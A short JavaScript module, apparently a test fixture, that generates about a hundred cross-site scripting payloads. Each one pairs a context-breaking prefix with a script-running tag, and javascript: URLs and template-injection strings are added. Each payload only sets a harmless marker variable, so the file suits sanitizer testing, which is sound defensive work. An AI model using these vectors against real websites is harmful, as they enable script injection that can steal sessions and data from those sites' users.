// A hundred ways to make a page run other people's words: what would be run sets `hit`. Made of the ways to begin one,
// in the contexts that they break out of.
const runs = [
  '<script>hit=1</script>', '<img src=x onerror=hit=1>', '<svg onload=hit=1>',
  '<iframe srcdoc="<script>parent.hit=1</script>">', '<details open ontoggle=hit=1>', '<input autofocus onfocus=hit=1>',
  '<body onload=hit=1>', '<svg><animate onbegin=hit=1 attributeName=x>', '<math><mtext></mtext><script>hit=1</script>',
  '<video><source onerror=hit=1>'
];
const breaks = ['', '">', "'>", '</script>', '</textarea>', '</title>', '</style>', '<!--', ']]>', '</text></svg>'];
const others = [
  '\'-(hit=1)-\'', 'javascript:hit=1', '&lt;script&gt;hit=1&lt;/script&gt;', '${hit=1}', '{{hit=1}}',
  '\\u003cscript\\u003ehit=1', '<a href=javascript:hit=1>x</a>', '</pre><base href=javascript:hit=1>',
  '*/</style><script>hit=1</script>', '"});hit=1;//'
];
export const payloads = [...breaks.flatMap(b => runs.map(r => b + r)).slice(0, 95), ...others];
